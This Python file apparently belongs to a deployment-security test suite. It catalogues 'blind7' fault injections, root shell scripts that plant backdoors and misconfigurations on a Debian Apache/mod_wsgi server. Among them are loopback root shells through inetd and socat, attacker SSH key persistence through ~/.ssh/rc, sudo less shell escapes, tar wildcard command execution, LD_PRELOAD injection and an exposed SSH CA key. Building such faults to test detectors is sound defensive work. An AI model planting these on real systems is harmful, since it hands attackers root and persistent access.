"""Seventh blind round (blind7): what serves, what runs, what grants, what loads code, by mechanisms none of the
earlier rounds used (blind: f01-f29, v1-v5; blind3: b01-b56, a01-a05; blind4: c01-c47; blind5: d01-d35, x01-x06,
y08/y16/y32).

Written before reading deploytests/verify/**, deploytests/faults/catalogue.py, docs/promises.md or the tests that
inject faults: from what an operator's hand edit, a package installed and left, a half-finished clean-up, a
"hardening" snippet, a tool left running, or an attacker holding the deploy login or the app user does to a live
Debian 12 Apache + mod_wsgi server deployed by deploytests. Each is a shell script run as root (``sh -ec``) on a
container of the campaign's deployed snapshot (live release + one previous release), as
``deploytests.faults.run.Campaign`` injects its own. Placeholders (the campaign's values): {root} {app_user}
{app_group} {login} {deploy_user} {live} {prev} {site} {python_version} {python_home} {config} {vhost} {package}
(literal braces doubled).

Every fault says its consequence; ``blind7/effects7.py`` shows it on the campaign's snapshot (BENIGN: none found,
not counted).

``ALLOWED`` faults hide behind an allowance the operator had a reason to write (README's gate section): run them
with the target keys of ``ALLOW_KEYS`` (the clean control of that run must pass with them).
"""
from deploytests.faults.catalogue import Fault

RESTART = ("apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); "
           "done; apache2ctl start; sleep 1; pgrep -x apache2 >/dev/null")
GRACEFUL = "apache2ctl graceful; sleep 1"
APT = ("(apt-get update -qq >/dev/null 2>&1 || true); DEBIAN_FRONTEND=noninteractive timeout 400 apt-get install -y -qq "
       "--no-install-recommends {pkgs} >/tmp/apt.log 2>&1 || {{{{ tail -20 /tmp/apt.log; exit 1; }}}}")
# sshd in the image runs as '/usr/sbin/sshd -D -e' (no init): SIGHUP re-executes it with the new configuration,
# as 'systemctl reload ssh' does on a server; checked first, as the unit's ExecReload does
SSHD_RELOAD = "/usr/sbin/sshd -t; kill -HUP $(pgrep -o -x sshd); sleep 1; pgrep -x sshd >/dev/null"
HOME = "l=$(getent passwd {login} | cut -d: -f6)"


def bg(cmd: str) -> str:
    return f"setsid nohup {cmd} </dev/null >/dev/null 2>&1 & sleep 1"


def wait_port(hexport: str) -> str:
    return (f"i=0; until grep -q ':{hexport} [0-9A-F]*:0000 0A' /proc/net/tcp /proc/net/tcp6 2>/dev/null || [ $i -ge 150 ]; "
            f"do i=$((i+1)); sleep 0.1; done; grep -q ':{hexport} ' /proc/net/tcp /proc/net/tcp6")


BLIND7 = (
    # ------------------------------------------------------------------ serve
    Fault("e01-inetd-loopback-root-shell", "serve",
          "openbsd-inetd installed for an old monitoring probe, and an ops 'rescue port' line in /etc/inetd.conf "
          "('127.0.0.1:7007 stream tcp nowait root /bin/sh sh -i', reachable 'only through an SSH tunnel'): "
          "a packaged daemon, as root, on loopback only, and any local user (www-data, the app user, an SSRF in "
          "the app) gets a root shell by connecting to it",
          APT.format(pkgs="openbsd-inetd") + "; printf '127.0.0.1:7007\\tstream\\ttcp\\tnowait\\troot\\t/bin/sh\\tsh -i\\n' "
          ">> /etc/inetd.conf; if pidof inetd >/dev/null; then kill -HUP $(pidof inetd); else /usr/sbin/inetd; fi; "
          + wait_port("1B5F")),
    Fault("e02-mod-php-installed-and-left", "serve",
          "libapache2-mod-php installed (for a one-off phpinfo/adminer trial; its postinst enables php8.2 and "
          "switches Apache to mpm_prefork) and left, Apache restarted: any .php file under a directory Apache "
          "serves runs in Apache's workers, so the deploy login's own static dir (served from current/) runs "
          "PHP as www-data, code no release check sees",
          APT.format(pkgs="libapache2-mod-php") + "; " + RESTART),
    Fault("e03-rsyncd-loopback-writes-app-tree", "serve",
          "rsync's daemon started for restores from the backup box (which comes in through an SSH tunnel, so "
          "'address = 127.0.0.1'), with a read-write module for the app's tree running as the deploy login "
          "(uid = {login}): any local user (www-data, the app user) writes the releases' code through it, "
          "as the deploy login, no login needed",
          APT.format(pkgs="rsync") + "; printf 'address = 127.0.0.1\\npid file = /run/rsyncd.pid\\n\\n[app]\\n"
          "  comment = app tree, for restores\\n  path = {root}\\n  uid = {login}\\n  gid = {login}\\n  read only = false\\n' "
          "> /etc/rsyncd.conf; rsync --daemon; " + wait_port("0369")),
    Fault("e04-socat-loopback-root-shell", "serve",
          "socat (installed for a quick port test) left running by root from an incident as a loopback 'shell "
          "port' ('socat TCP-LISTEN:4444,bind=127.0.0.1,fork EXEC:/bin/bash'): a packaged executable as root on "
          "loopback; any local user or an SSRF in the app runs commands as root",
          APT.format(pkgs="socat") + "; "
          + bg("socat TCP-LISTEN:4444,bind=127.0.0.1,reuseaddr,fork EXEC:/bin/bash,stderr") + "; " + wait_port("115C")),
    Fault("e05-root-tmux-shared-with-deploy-login", "serve",
          "root's tmux session for pair debugging on a socket in /tmp, opened to the developer who logs in as the "
          "deploy login (tmux 3.3 'server-access -a {login}', socket chmod 777), left running: the deploy login "
          "types into root's shell (send-keys), so whoever holds it, which needs no sudo to deploy, is root",
          APT.format(pkgs="tmux") + "; tmux -S /tmp/ops-pair new-session -d -s pair; "
          "tmux -S /tmp/ops-pair server-access -a {login}; chmod 777 /tmp/ops-pair; "
          "tmux -S /tmp/ops-pair has-session -t pair"),
    Fault("e06-javascript-common-alias-on-app-origin", "serve",
          "libjs-jquery installed for an admin tool (pulls javascript-common, whose postinst enables its Apache conf "
          "'Alias /javascript /usr/share/javascript/'), Apache reloaded: /javascript/ on the app's own host name "
          "serves files no release shipped (old jQuery builds: script gadgets that pass the app's own CSP 'self')",
          APT.format(pkgs="javascript-common libjs-jquery") + "; a2enconf -q javascript-common; " + GRACEFUL),
    Fault("e07-sshd-gatewayports-yes", "serve",
          "'GatewayPorts yes' appended to sshd_config for a vendor's one-off tunnel and left, sshd reloaded: every "
          "login that may forward (the deploy login) can open ports on all interfaces of the server through "
          "sshd ('ssh -R 0.0.0.0:8080:127.0.0.1:7070'), publishing loopback-only services to the network",
          "printf '\\n# vendor tunnel (ticket 4711)\\nGatewayPorts yes\\n' >> /etc/ssh/sshd_config; " + SSHD_RELOAD),
    # ------------------------------------------------------------------ run
    Fault("e08-incron-root-runs-release-python", "run",
          "incron installed so uploads are processed as soon as they land: a system table /etc/incron.d/app-ingest "
          "('{root}/shared/data/incoming IN_CLOSE_WRITE {root}/current/venv/bin/python -m {package}.ingest $@/$#'), "
          "incrond running: every file the app user writes makes root run the deploy login's interpreter",
          APT.format(pkgs="incron") + "; install -d -o {app_user} -g {app_group} -m 2770 {root}/shared/data/incoming; "
          "printf '{root}/shared/data/incoming IN_CLOSE_WRITE {root}/current/venv/bin/python -m {package}.ingest $@/$#\\n' "
          "> /etc/incron.d/app-ingest; pidof incrond >/dev/null || incrond; sleep 1; pidof incrond >/dev/null"),
    Fault("e09-deploy-login-ssh-rc-persistence", "run",
          "an attacker holding the deploy login leaves ~/.ssh/rc (sshd runs it at every login of that account, "
          "before the command: every deploy, rollback and gate session), which puts the attacker's key back into "
          "authorized_keys whenever it is missing: rotating the deploy key does not lock the attacker out",
          HOME + "; ssh-keygen -q -t ed25519 -N '' -C attacker -f /tmp/atk; k=$(cat /tmp/atk.pub); rm -f /tmp/atk /tmp/atk.pub; "
          "printf '#!/bin/sh\\ngrep -qF \"%s\" ~/.ssh/authorized_keys 2>/dev/null || echo \"%s\" >> ~/.ssh/authorized_keys\\n' "
          "\"$k\" \"$k\" > $l/.ssh/rc; chown {login}: $l/.ssh/rc; chmod 0600 $l/.ssh/rc"),
    Fault("e10-bash-bashrc-sources-app-file", "run",
          "/etc/bash.bashrc (every interactive bash: an admin's login, 'sudo -i', 'sudo bash') made to source "
          "{root}/shared/data/shell.env 'so admins get the app's settings', a file the app user writes: the app "
          "user's text runs in root's shells",
          "printf 'export APP_ENV=production\\n' > {root}/shared/data/shell.env; chown {app_user}:{app_group} "
          "{root}/shared/data/shell.env; chmod 0660 {root}/shared/data/shell.env; "
          "printf '\\n# the app settings in admin shells\\n[ -r {root}/shared/data/shell.env ] && . {root}/shared/data/shell.env\\n' "
          ">> /etc/bash.bashrc"),
    Fault("e11-etc-environment-bash-env", "run",
          "'BASH_ENV={root}/shared/data/shell.env' put in /etc/environment (pam_env sets it for every SSH session, "
          "su and cron job) 'so scripts get the app's settings': every non-interactive bash of those sessions (the "
          "deploy login's SSH commands, root's cron scripts) first runs that file, which the app user writes",
          "printf 'export APP_ENV=production\\n' > {root}/shared/data/shell.env; chown {app_user}:{app_group} "
          "{root}/shared/data/shell.env; chmod 0660 {root}/shared/data/shell.env; "
          "echo 'BASH_ENV={root}/shared/data/shell.env' >> /etc/environment"),
    Fault("e12-needrestart-conf-linked-to-app-file", "run",
          "needrestart installed (apt runs it as root after every install or upgrade: unattended-upgrades daily) "
          "and /etc/needrestart/conf.d/app.conf made a link to {root}/shared/data/needrestart.conf 'so the app team "
          "keeps its own list of services': needrestart evaluates its conf.d files as Perl, as root",
          APT.format(pkgs="needrestart") + "; printf '# services of the app\\n$nrconf{{override_rc}}{{qr(^app-)}} = 1;\\n' "
          "> {root}/shared/data/needrestart.conf; chown {app_user}:{app_group} {root}/shared/data/needrestart.conf; "
          "chmod 0660 {root}/shared/data/needrestart.conf; ln -sfn {root}/shared/data/needrestart.conf "
          "/etc/needrestart/conf.d/app.conf"),
    Fault("e13-dpkg-cfg-post-invoke-release-flask", "run",
          "a dpkg hook /etc/dpkg/dpkg.cfg.d/app-cache ('post-invoke=...', dpkg's own, not apt's) clearing the app's "
          "cache after every package change by running the live release's flask CLI: root runs the deploy login's "
          "interpreter and site-packages at every dpkg run (unattended-upgrades: daily)",
          "printf '# clear the app cache after package changes\\npost-invoke=if [ -x {root}/current/venv/bin/flask ]; then "
          "cd {root}/current && YOURAPPLICATION_CONFIG={config} venv/bin/flask --app {package} --help >/dev/null 2>&1 || true; fi\\n' "
          "> /etc/dpkg/dpkg.cfg.d/app-cache"),
    Fault("e14-httpd-prerotate-runs-release-python", "run",
          "a script dropped into /etc/logrotate.d/httpd-prerotate/ (Debian's stock apache2 logrotate file runs "
          "'run-parts /etc/logrotate.d/httpd-prerotate' as root before every nightly rotation; no stock file "
          "changed) that flushes the app's log buffer with the live release's python: root runs the deploy "
          "login's interpreter every night",
          APT.format(pkgs="logrotate") + "; mkdir -p /etc/logrotate.d/httpd-prerotate; "
          "printf '#!/bin/sh\\n# flush the app log buffer before Apache logs rotate\\n{root}/current/venv/bin/python -c \"import {package}\" "
          ">/dev/null 2>&1 || true\\n' > /etc/logrotate.d/httpd-prerotate/app-flush; chmod 755 /etc/logrotate.d/httpd-prerotate/app-flush"),
    Fault("e15-crontab-path-release-venv-first", "run",
          "cron installed, and /etc/crontab's PATH made to start with {root}/current/venv/bin 'so cron jobs find the "
          "app's flask': root's stock jobs (run-parts for cron.hourly/daily/weekly) resolve run-parts, test and "
          "python3 in the deploy login's venv first",
          APT.format(pkgs="cron") + "; grep -q '^PATH=' /etc/crontab; sed -i 's#^PATH=#PATH={root}/current/venv/bin:#' /etc/crontab; "
          "grep -q '^PATH={root}/current/venv/bin:' /etc/crontab"),
    Fault("e16-sysctl-core-pattern-release-python", "run",
          "/etc/sysctl.d/60-app-crash.conf 'kernel.core_pattern = |{root}/current/venv/bin/python -m {package}.crash "
          "%p %e' (the app's crash reporter): applied at boot; the kernel runs a core_pattern pipe as root at every "
          "crash of any process, so root runs the deploy login's interpreter whenever anything (the app) crashes",
          "mkdir -p /etc/sysctl.d; printf 'kernel.core_pattern = |{root}/current/venv/bin/python -m {package}.crash %%p %%e\\n' "
          "> /etc/sysctl.d/60-app-crash.conf"),
    Fault("e17-tcpdump-left-capturing-http", "run",
          "tcpdump installed to debug a load balancer problem and left capturing port 80 into /tmp/lb-debug.pcap, "
          "readable by everyone: every request to the app (session cookies, login form passwords, the health "
          "gate's requests) is written where any local user reads it",
          APT.format(pkgs="tcpdump") + "; " + bg("tcpdump -i any -s 0 -U -w /tmp/lb-debug.pcap tcp port 80")
          + "; sleep 1; chmod 0644 /tmp/lb-debug.pcap; pgrep -x tcpdump >/dev/null"),
    # ------------------------------------------------------------------ grant
    Fault("e18-sudoers-user-alias-gid-less-logs", "grant",
          "'so the app team can read Apache's logs': /etc/sudoers.d/webteam-logs with 'User_Alias WEBTEAM = "
          "%#<the app group's gid>' (less installed for it), 'Cmnd_Alias LOGVIEW = /usr/bin/less /var/log/apache2/*' and 'WEBTEAM ALL=(root) "
          "NOPASSWD: LOGVIEW': the app user runs less as root on any path ('*' matches '../') and less's '!' runs a "
          "shell: the app user is root",
          APT.format(pkgs="less") + "; g=$(getent group {app_group} | cut -d: -f3); printf 'User_Alias WEBTEAM = %%#%s\\nCmnd_Alias LOGVIEW = "
          "/usr/bin/less /var/log/apache2/*\\nWEBTEAM ALL=(root) NOPASSWD: LOGVIEW\\n' \"$g\" > /etc/sudoers.d/webteam-logs; "
          "chmod 0440 /etc/sudoers.d/webteam-logs; visudo -c >/dev/null"),
    Fault("e19-acl-app-user-on-prev-release-site", "grant",
          "a POSIX ACL (setfacl -R -m u:{app_user}:rwX, and a default ACL) on the previous release's site-packages "
          "after the app failed to write a cache there during an incident on that release: the app user writes the "
          "code a rollback switches to (a .pth, a patched module), while the files' owner stays the deploy login",
          APT.format(pkgs="acl") + "; setfacl -R -m u:{app_user}:rwX {prev_site}; setfacl -d -m u:{app_user}:rwX "
          "{prev_site}; runuser -u {app_user} -- test -w {prev_site}"),
    Fault("e20-pam-su-succeed-if-app-group", "grant",
          "'auth sufficient pam_succeed_if.so use_uid user ingroup {app_group}' added to /etc/pam.d/su after "
          "pam_rootok 'so the app's maintenance scripts can su without a root password': the app user, and any code "
          "running in the app, becomes root with su",
          "sed -i '/pam_rootok.so/a auth       sufficient pam_succeed_if.so use_uid user ingroup {app_group}' /etc/pam.d/su; "
          "grep -q pam_succeed_if /etc/pam.d/su"),
    Fault("e21-www-data-ssh-login-deploy-key", "grant",
          "Apache's user given a shell and the deploy login's key in /var/www/.ssh/authorized_keys 'so the deploy "
          "can rsync static files as www-data': whoever holds the deploy key logs in as Apache's user (its workers' "
          "processes, the mod_wsgi daemons' sockets, everything Apache may read or write)",
          HOME + "; usermod -s /bin/bash www-data; install -d -o www-data -g www-data -m 0700 /var/www/.ssh; "
          "cp $l/.ssh/authorized_keys /var/www/.ssh/authorized_keys; chown www-data:www-data /var/www/.ssh/authorized_keys; "
          "chmod 0600 /var/www/.ssh/authorized_keys"),
    Fault("e22-nss-extrausers-deploy-writable", "grant",
          "libnss-extrausers installed and added to nsswitch.conf's passwd/group/shadow so the deploy job can sync "
          "the team's accounts into /var/lib/extrausers, which the deploy login owns: whoever holds the deploy login "
          "adds an account with uid 0 (or itself to any group) that sshd, su and sudo believe",
          APT.format(pkgs="libnss-extrausers") + "; sed -i -E 's/^(passwd|group|shadow):(.*)$/\\1:\\2 extrausers/' "
          "/etc/nsswitch.conf; grep -q '^passwd:.*extrausers' /etc/nsswitch.conf; install -d -o {login} -g {login} -m 0755 "
          "/var/lib/extrausers; for f in passwd group shadow; do install -o {login} -g {login} -m 0644 /dev/null /var/lib/extrausers/$f; done; "
          "chmod 0640 /var/lib/extrausers/shadow"),
    Fault("e23-ssh-user-ca-key-in-deploy-home", "grant",
          "SSH certificates for staff logins: sshd's TrustedUserCAKeys /etc/ssh/user_ca.pub, the CA's private key "
          "generated (and left) in the deploy login's home, PermitRootLogin back to Debian's default "
          "(prohibit-password), sshd reloaded: whoever holds the deploy login signs a certificate for principal "
          "root and logs in as root, no key in any authorized_keys",
          HOME + "; ssh-keygen -q -t ed25519 -N '' -C user-ca -f $l/user_ca; chown {login}: $l/user_ca $l/user_ca.pub; "
          "cp $l/user_ca.pub /etc/ssh/user_ca.pub; chmod 0644 /etc/ssh/user_ca.pub; "
          "sed -i 's/^PermitRootLogin .*/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config; "
          "printf '\\nTrustedUserCAKeys /etc/ssh/user_ca.pub\\n' >> /etc/ssh/sshd_config; " + SSHD_RELOAD),
    # ------------------------------------------------------------------ load
    Fault("e24-pam-env-conf-ld-preload", "load",
          "an APM vendor's install step 'LD_PRELOAD DEFAULT=/opt/apm/lib/libapm-preload.so' in "
          "/etc/security/pam_env.conf (not /etc/environment), the dir owned by the vendor's account 'apm': every "
          "SSH session (the deploy's, the gate's), su and cron job, root's too, loads a library another account can "
          "replace",
          "useradd -r -M -s /usr/sbin/nologin apm; mkdir -p /opt/apm/lib; cp -L /lib/x86_64-linux-gnu/libz.so.1 "
          "/opt/apm/lib/libapm-preload.so; chown -R apm /opt/apm; "
          "echo 'LD_PRELOAD DEFAULT=/opt/apm/lib/libapm-preload.so' >> /etc/security/pam_env.conf"),
    Fault("e25-usr-local-dist-packages-pth-deploy-dir", "load",
          "'team-tools.pth' in /usr/local/lib/python{python_version}/dist-packages naming ~{login}/pylib (the team's "
          "helper modules for admin scripts, kept in the deploy login's home): every /usr/bin/python3 run, root's "
          "included (unattended-upgrades, apt hooks, admin scripts), searches the deploy login's dir before "
          "/usr/lib/python3/dist-packages",
          HOME + "; install -d -o {login} -g {login} -m 0755 $l/pylib; "
          "echo \"$l/pylib\" > /usr/local/lib/python{python_version}/dist-packages/team-tools.pth; "
          "python3 -c 'import sys; assert \"'$l'/pylib\" in sys.path'"),
    Fault("e26-stdlib-dir-shadows-app-dependency", "load",
          "a 'MarkupSafe security hotfix for every app on the box' copied into the system Python's stdlib dir "
          "(/usr/lib/python{python_version}/markupsafe, root's, no package's), daemons reloaded: the stdlib dir comes "
          "before the venv's site-packages, so the app runs a MarkupSafe no release shipped and no rollback changes",
          "cp -a {site}/markupsafe /usr/lib/python{python_version}/markupsafe; chown -R root:root "
          "/usr/lib/python{python_version}/markupsafe; printf '\\n# local hotfix 2026-12\\n__hotfix__ = True\\n' >> "
          "/usr/lib/python{python_version}/markupsafe/__init__.py; rm -rf /usr/lib/python{python_version}/markupsafe/__pycache__; "
          "touch {root}/application.wsgi; " + GRACEFUL),
)

ALLOWED = (
    Fault("w01-allowed-media-conf-wsgi-handler", "load",
          "an allowed media.conf (allow_apache_conf) serving the app's uploads from /srv/media (where the app "
          "writes them: the app user's) straight from Apache, its <Directory> copied from a how-to with "
          "'Options +ExecCGI' and 'AddHandler wsgi-script .py': an uploaded .py file runs as a WSGI script in "
          "Apache for whoever requests it",
          "install -d -o {app_user} -g {app_group} -m 0755 /srv/media; printf 'Alias /media /srv/media\\n"
          "<Directory /srv/media>\\n    Options +ExecCGI\\n    AddHandler wsgi-script .py\\n    Require all granted\\n"
          "</Directory>\\n' > /etc/apache2/conf-available/media.conf; a2enconf -q media; " + GRACEFUL),
    Fault("w02-allowed-wsgi-tuning-lazy-init-off", "load",
          "an allowed wsgi-tuning.conf (allow_apache_conf, written for 'WSGIRestrictEmbedded On') where a "
          "performance how-to's 'WSGILazyInitialization Off' was added: mod_wsgi then starts Python in Apache's "
          "root parent (site hooks, .pth files and sitecustomize of the system Python run as root) and the "
          "daemons inherit that interpreter instead of starting their own from their python-home",
          "printf 'WSGIRestrictEmbedded On\\nWSGILazyInitialization Off\\n' > /etc/apache2/conf-available/wsgi-tuning.conf; "
          "a2enconf -q wsgi-tuning; " + RESTART),
    Fault("w03-allowed-backup-cron-tar-wildcard", "grant",
          "an allowed /etc/cron.d/app-data-backup (allow_cron; archive 0600) that runs as root 'cd "
          "{root}/shared/data && tar czf /var/backups/app-data.tgz *': the app user names files "
          "'--checkpoint=1' and '--checkpoint-action=exec=sh x.sh' in its data dir, and root's tar runs x.sh",
          APT.format(pkgs="cron") + "; printf 'SHELL=/bin/sh\\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\\n"
          "15 3 * * * root umask 077; cd {root}/shared/data && tar czf /var/backups/app-data.tgz *\\n' > /etc/cron.d/app-data-backup"),
    Fault("w04-allowed-unit-plus-prefix-runs-root", "run",
          "an allowed app-worker.service (allow_units: the app's queue worker, User={app_user}) whose "
          "'ExecStartPre=+{root}/current/venv/bin/python -m {package}.prepare' creates its runtime dir: systemd runs "
          "a '+' command with full privileges, whatever User= says, so root runs the deploy login's interpreter at "
          "every start of the worker",
          "printf '[Unit]\\nDescription=app queue worker\\nAfter=network.target\\n\\n[Service]\\nUser={app_user}\\n"
          "Group={app_group}\\nWorkingDirectory={root}/current\\nExecStartPre=+{root}/current/venv/bin/python -m {package}.prepare\\n"
          "ExecStart={root}/current/venv/bin/python -m {package}.worker\\nRestart=on-failure\\n\\n[Install]\\n"
          "WantedBy=multi-user.target\\n' > /etc/systemd/system/app-worker.service; mkdir -p "
          "/etc/systemd/system/multi-user.target.wants; ln -sfn /etc/systemd/system/app-worker.service "
          "/etc/systemd/system/multi-user.target.wants/app-worker.service"),
    Fault("w05-allowed-admin-acl-wsgi-access-script", "serve",
          "an allowed admin-acl.conf (allow_apache_conf) protecting /admin with 'WSGIAccessScript "
          "/srv/acl/check.wsgi', an IP allow-list script the app team maintains (the dir the app user's): mod_wsgi "
          "runs access scripts inside Apache's own worker processes, for every request to /admin, so the app user's "
          "code runs in Apache, outside the daemons, seeing every request it serves",
          "install -d -o {app_user} -g {app_group} -m 0755 /srv/acl; printf 'def allow_access(environ, host):\\n"
          "    return environ.get(\"REMOTE_ADDR\", \"\").startswith((\"10.\", \"127.\"))\\n' > /srv/acl/check.wsgi; "
          "chown {app_user}:{app_group} /srv/acl/check.wsgi; printf '<Location /admin>\\n    WSGIAccessScript "
          "/srv/acl/check.wsgi\\n</Location>\\n' > /etc/apache2/conf-available/admin-acl.conf; a2enconf -q admin-acl; "
          + GRACEFUL),
)

ALLOW_KEYS = """allow_apache_conf = ["/etc/apache2/conf-enabled/media.conf", "/etc/apache2/conf-enabled/wsgi-tuning.conf", "/etc/apache2/conf-enabled/admin-acl.conf"]
allow_cron = ["/etc/cron.d/app-data-backup"]
allow_units = ["app-worker.service"]
"""

# No consequence found in the effects runs (blind7/logs/effects-d12*.log), found before any gate run: not counted in
# the rate (reported). e22: getent never resolved an account from /var/lib/extrausers on Debian 12 (bookworm's
# libnss-extrausers, also with 'getent -s extrausers'): the account the deploy login writes is not seen, so no effect
# shown. w05: the access script never ran (GET /admin answered 403 and the script's first line did not run).
BENIGN = {"e22-nss-extrausers-deploy-writable", "w05-allowed-admin-acl-wsgi-access-script"}
